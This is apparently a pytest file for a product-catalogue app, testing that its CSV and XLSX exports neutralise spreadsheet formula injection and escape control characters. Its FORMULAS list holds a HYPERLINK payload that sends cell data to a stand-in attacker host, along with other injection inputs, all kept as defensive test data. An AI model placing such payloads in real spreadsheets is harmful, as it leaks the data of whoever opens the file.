"""Every CSV and XLSX the project writes holds catalogue text as text: no formula runs, no character breaks it."""

import csv
import datetime as dt

import openpyxl
import pytest

from catalogue.ingest import ingest
from catalogue.sample import write_sample
from ocop.spreadsheets import spreadsheet_text
from reports.files import write_csv, write_xlsx
from reports.tables import Column, Table
from tests.catalogue.rows import good_row
from tests.catalogue.rows import write_csv as write_catalogue_csv

TODAY = dt.date(2026, 6, 1)
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"bấm vào")', "=1+2", "+1+2", "-2+3", "@SUM(A1:A2)",
            " =1+2", "\uff1d1+2"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_as_a_formula_gets_excels_text_prefix(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Hạt sen sấy", "Xoài = ngon", "1+2", "", "'=already quoted"])
def test_plain_text_is_left_as_it_is(text):
    assert spreadsheet_text(text) == text


def test_the_rejects_csv_never_holds_a_formula(engine, tmp_path):
    rows = [good_row(), good_row(ocop_code="=1+2", product_name=FORMULAS[0], stars="2", price_vnd="=HYPERLINK(1)")]
    path = write_catalogue_csv(tmp_path / "catalogue.csv", rows)
    summary = ingest(engine, path, rejects_dir=tmp_path / "rejects", today=TODAY)
    assert (summary.accepted, summary.rejected) == (1, 1)
    with summary.rejects_path.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.DictReader(handle))
    cells = [value for line in lines for value in line.values()]
    assert "'=HYPERLINK(1)" in cells and "'=1+2" in cells and "'" + FORMULAS[0] in cells
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@"))]


def test_a_report_with_control_characters_and_formulas_in_a_name_is_still_written(tmp_path):
    table = Table("gaps", "Gaps", "Gaps", (Column("Product"), Column("Stock", "int")),
                  [("Hạt sen\x1b[31m sấy\x07", 5), ("=1+2", -3), ("Trà \ufffe sen", 1)])
    workbook = openpyxl.load_workbook(write_xlsx([table], tmp_path / "report.xlsx"))
    cells = [row for row in workbook["Gaps"].iter_rows(min_row=2, values_only=True)]
    assert cells == [("Hạt sen\\x1b[31m sấy\\x07", 5), ("'=1+2", -3), ("Trà \\ufffe sen", 1)]
    with write_csv(table, tmp_path / "gaps.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle))[1:] == [["Hạt sen\\x1b[31m sấy\\x07", "5"], ["'=1+2", "-3"],
                                                ["Trà \\ufffe sen", "1"]]


def test_sample_catalogues_hold_text_as_text(tmp_path):
    row = good_row(description="=1+2")
    write_sample([row], tmp_path / "sample.csv", "csv")
    with (tmp_path / "sample.csv").open(encoding="utf-8", newline="") as handle:
        assert next(csv.DictReader(handle))["description"] == "'=1+2"
    workbook = openpyxl.load_workbook(write_sample([row], tmp_path / "sample.xlsx", "xlsx"))
    cells = [cell for line in workbook.active.iter_rows() for cell in line if cell.value == "'=1+2"]
    assert cells and cells[0].data_type == "s"
